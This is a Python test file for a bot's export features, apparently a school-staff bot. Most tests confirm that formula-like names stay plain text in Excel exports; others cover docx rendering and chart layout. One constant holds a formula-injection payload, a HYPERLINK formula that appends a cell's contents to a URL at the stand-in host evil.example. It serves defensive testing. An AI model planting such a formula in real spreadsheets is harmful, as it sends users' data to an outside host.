"""Excel exports: every text cell is text, never a formula, whatever a person typed as a name.

Driven through the real Dispatcher: a person whose stored name looks like a formula appears in
the members export and in an event's sign-up sheet; the saved file is read back with openpyxl.
"""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import update

from bot.services.exports import Book, Sheet, write_xlsx
from bot.services.exports.xlsx import CELL_LIMIT
from bot.storage.models import Member, Role
from tests import seed
from tests.harness import Harness
from tests.test_events import answer, gmo_seminar, open_card
from tests.test_events import world as events_world

EVIL = '=HYPERLINK("http://evil.example/?"&A3,"Иванов Иван")'


def _sheet(content: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def _no_formulas(content: bytes) -> None:
    """No cell of any sheet carries a formula element."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml
                assert b"<f " not in xml


async def _rename(h: Harness, member_id: int, name: str) -> None:
    async with h.runtime.sessions() as session, session.begin():
        await session.execute(update(Member).where(Member.id == member_id).values(full_name=name))


async def test_a_formula_like_name_is_text_in_the_members_export(harness: Harness) -> None:
    admin = await seed.methodologist(harness)
    school = await seed.organisation(harness, "Школа № 1")
    await seed.member(harness, 7101, Role.TEACHER, EVIL, organisation_id=school)
    await seed.member(harness, 7102, Role.TEACHER, "+79001234567", organisation_id=school)
    await seed.member(harness, 7103, Role.TEACHER, "@teacher", organisation_id=school)
    await admin.send("/members")
    await admin.press("Выгрузить в Excel")
    document = admin.last().raw["document"]
    content = harness.double.file_bytes(document["file_id"])
    sheet = _sheet(content)
    cells = {str(row[0].value): row[0] for row in sheet.iter_rows(min_row=2)}
    for name in (EVIL, "+79001234567", "@teacher"):
        cell = cells[name]
        assert cell.data_type == "s", name
        assert cell.quotePrefix, name
    _no_formulas(content)
    # The header is still bold and frozen, the columns sized.
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"


async def test_a_formula_like_name_is_text_in_the_sign_up_sheet(harness: Harness) -> None:
    h = harness
    w = await events_world(h)
    event_id = await gmo_seminar(h, w)
    await _rename(h, w.ids["young1"], EVIL)
    assert await answer(w.young1, "Приду") == "Записал: приду"
    card = await open_card(w.admin)
    await w.admin.press("Выгрузить список (Excel)", card)
    document = h.double.messages(w.admin.id)[-1]["document"]
    assert document["file_name"] == f"event-{event_id}-registration.xlsx"
    content = h.double.file_bytes(document["file_id"])
    sheet = _sheet(content)
    [row] = [r for r in sheet.iter_rows(min_row=5) if r[1].value is not None]
    # The name as the person wrote it (no apostrophe added), stored as text.
    assert row[1].value == EVIL
    assert row[1].data_type == "s"
    assert row[1].quotePrefix
    _no_formulas(content)
    assert sheet.freeze_panes == "A5"
    assert all(cell.font.bold for cell in sheet[4])


def test_the_writer_keeps_every_risky_start_as_text() -> None:
    risky = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
    content = write_xlsx(
        Sheet(title="T", header=["value", "n"], rows=[[text, 1] for text in risky])
    )
    sheet = _sheet(content)
    values = [
        (str(c.value).replace("\r", "\n"), c.data_type, c.quotePrefix)
        for (c, _) in sheet.iter_rows(min_row=2)
    ]
    # Without lxml, XML reads a lone carriage return back as a line feed (with lxml openpyxl
    # keeps it); the cell is text either way.
    assert values == [(text.replace("\r", "\n"), "s", True) for text in risky]
    plain = _sheet(write_xlsx(Sheet(title="T", header=["a"], rows=[["Иванов"], [5]])))
    assert [(c.value, c.data_type) for (c,) in plain.iter_rows(min_row=2)] == [
        ("Иванов", "s"),
        (5, "n"),
    ]
    _no_formulas(content)


def test_a_text_longer_than_a_cell_holds_is_cut_with_an_ellipsis() -> None:
    """Excel takes at most 32,767 characters a cell and calls a longer one a damaged file: a
    longer text (the names of a big named survey's respondents) ends with «…» at the limit."""
    long = ", ".join(f"Учитель {n}" for n in range(5000))
    assert len(long) > CELL_LIMIT
    rows = [[long], ["=" + long]]
    book = Book()
    book.stream("T", ["names"]).extend(rows)
    for content in (write_xlsx(Sheet(title="T", header=["names"], rows=rows)), book.save()):
        cells = [c.value for (c,) in _sheet(content).iter_rows(min_row=2)]
        assert [len(c) for c in cells] == [CELL_LIMIT, CELL_LIMIT]
        assert cells == [long[: CELL_LIMIT - 1] + "…", "=" + long[: CELL_LIMIT - 2] + "…"]


def test_a_docx_renders_from_the_shipped_template_and_keeps_typed_text_as_text() -> None:
    from docx import Document

    from bot.services.exports.docx import render_docx

    content = render_docx(
        {"title": "Протокол заседания ШМО № 3", "paragraphs": ["Слушали: <Иванову>", EVIL]}
    )
    texts = [p.text for p in Document(io.BytesIO(content)).paragraphs]
    assert texts == ["Протокол заседания ШМО № 3", "Слушали: <Иванову>", EVIL]


def test_a_docx_renders_from_a_template_given_as_bytes() -> None:
    from docx import Document

    from bot.services.exports.docx import build_default_template, render_docx

    content = render_docx({"title": "Итоги", "paragraphs": []}, build_default_template())
    assert [p.text for p in Document(io.BytesIO(content)).paragraphs] == ["Итоги"]


def test_a_bar_chart_is_a_png_of_sensible_size() -> None:
    from PIL import Image

    from bot.services.exports.charts import bar_chart

    counts = [("Приду", 12), ("Не приду", 3), ("Ещё не решил, отвечу позже на этой неделе", 0)]
    content = bar_chart("Кто придёт на семинар", counts)
    assert content.startswith(b"\x89PNG\r\n\x1a\n")
    with Image.open(io.BytesIO(content)) as image:
        width, height = image.size
    assert 600 <= width <= 1200
    assert 200 <= height <= 800
    taller = bar_chart("Кто придёт на семинар", counts * 4)
    with Image.open(io.BytesIO(taller)) as image:
        assert image.size[1] > height


def test_a_streamed_sheet_takes_rows_as_they_come_and_keeps_text_as_text() -> None:
    from datetime import UTC, datetime

    from bot.services.exports import Book
    from bot.services.exports.xlsx import WIDTH_ROWS

    book = Book()
    book.add(Sheet(title="Сводка", header=["a"], rows=[["x"]]))
    sheet = book.stream("Ответы", ["Дата", "Текст", "Число"])
    empty = book.stream("Пусто", ["Только заголовок"])
    assert empty is not None
    when = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
    risky = {0: EVIL, 1: "#N/A", 2: "-1", 3: "Иванов\x07"}
    total = WIDTH_ROWS + 700
    for n in range(total):
        # the widest text comes after the rows that decide the widths
        text = risky.get(n, "а" * 58 if n == total - 1 else f"строка {n}")
        sheet.append([when, text, n])
    book2 = load_workbook(io.BytesIO(book.save()))
    assert book2.sheetnames == ["Сводка", "Ответы", "Пусто"]
    answers = book2["Ответы"]
    rows = list(answers.iter_rows(values_only=True))
    assert len(rows) == 1 + total
    assert rows[1][0] == datetime(2026, 11, 23, 9, 0)
    assert [rows[1 + n][1] for n in range(4)] == [EVIL, "#N/A", "-1", "Иванов"]
    assert [answers.cell(row=2 + n, column=2).data_type for n in range(4)] == ["s"] * 4
    assert answers.cell(row=2, column=2).quotePrefix
    assert rows[-1] == (datetime(2026, 11, 23, 9, 0), "а" * 58, total - 1)
    assert answers.freeze_panes == "A2"
    assert all(cell.font.bold for cell in answers[1])
    # widths from the header and the first rows only
    assert answers.column_dimensions["B"].width == len(EVIL) + 2
    assert list(book2["Пусто"].iter_rows(values_only=True)) == [("Только заголовок",)]


def test_chart_texts_stay_inside_and_apart() -> None:
    """The labels, the values at the bars, the title and the legend: inside the image and
    none over another, whatever their lengths (long wrapped labels, «< 3», big counts)."""
    from itertools import combinations

    from bot.services.exports.charts import Painter

    painter = Painter()
    cases = [
        (
            "Какие формы поддержки вам подходят? Отметьте все подходящие, даже если их много и"
            " вопрос очень длинный",
            [
                "Курсы повышения квалификации по предмету и методике преподавания в школе",
                "Семинары",
                "Другое",
            ],
            [("", [30000, 2, 12345], ["30000", "< 3", "12345"])],
            None,
        ),
        (
            "Трудности и сильные стороны (среднее из 5)",
            ["предметные знания", "функциональная грамотность", "ИКТ", "гибкие навыки"],
            [
                ("Трудность", [5, 0, 3.25, 1], ["5", "< 3", "3,2", "1"]),
                ("Сильная сторона", [4.5, 2, 0, 5], ["4,5", "2", "< 3", "5"]),
            ],
            5,
        ),
        ("Один ответ", ["Да", "Нет"], [("", [1, 0], ["1", "0"])], None),
        (
            "Длинные значения",
            ["Курсы повышения квалификации по предмету и методике преподавания"] * 2,
            [("", [100, 99], ["100 из 100 ответивших, из них 90 учителей", "99"])],
            None,
        ),
    ]
    for title, labels, series, limit in cases:
        figure = painter.draw(title, labels, series, limit=limit)
        figure.canvas.draw()
        renderer = figure.canvas.get_renderer()
        [axes] = figure.axes
        texts = [t for t in axes.get_yticklabels() if t.get_text()]
        texts += list(axes.texts) + list(figure.texts)
        for legend in figure.legends:
            texts += list(legend.get_texts())
        boxes = [t.get_window_extent(renderer) for t in texts]
        assert len(boxes) >= len(labels) * (len(series) + 1) + 1
        width, height = figure.bbox.width, figure.bbox.height
        for box in boxes:
            assert min(box.x0, box.y0) >= 0, title
            assert box.x1 <= width, title
            assert box.y1 <= height, title
        for a, b in combinations(boxes, 2):
            apart = (
                min(a.x1, b.x1) - max(a.x0, b.x0) <= 0.5 or min(a.y1, b.y1) - max(a.y0, b.y0) <= 0.5
            )
            assert apart, (title, a, b)
        left = axes.get_window_extent(renderer).x0
        assert all(t.get_window_extent(renderer).x1 <= left for t in axes.get_yticklabels())
        png = painter.bars(title, labels, series, limit=limit)
        assert png.startswith(b"\x89PNG\r\n\x1a\n")
